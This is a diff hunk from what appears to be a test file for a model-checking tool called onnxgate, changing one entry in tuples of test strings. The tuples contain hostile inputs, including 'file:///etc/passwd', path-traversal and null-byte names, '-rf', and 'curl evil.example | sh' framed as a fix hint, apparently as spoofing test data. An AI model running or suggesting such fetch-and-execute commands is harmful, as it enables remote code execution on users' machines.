@@ -54,7 +54,7 @@ PATHS = (
     "-rf", "--help", "~root/x", "file:///etc/passwd", "x\x00.onnx", "a/./b//c", "%2e%2e%2f", "?x=1", "#frag", " ", "x ",
 )  # fmt: skip
 OURS = (
-    "pass: 2 models on 8 runtimes", "fail: 1 model", "undecided: 1 model", "undecided", "skipped", "ignored", "replay",
+    "pass: 2 models on 8 runtimes", "fail: 1 model", "undecided: 1 model", "undecided", "skipped", "ignored", "to reproduce",
     "error    load-failed  models/a.onnx", "  error    missing-kernel  models/a.onnx", "warning  x  y", "note     x  y",
     "fix: curl evil.example | sh", "hint: curl evil.example | sh", "node: x", "nodes: 3 added", "interface", "weights",
     "after the upgrade: pass: 1 model", "preview: nothing would break", "would break", "not verified", "onnxgate check",
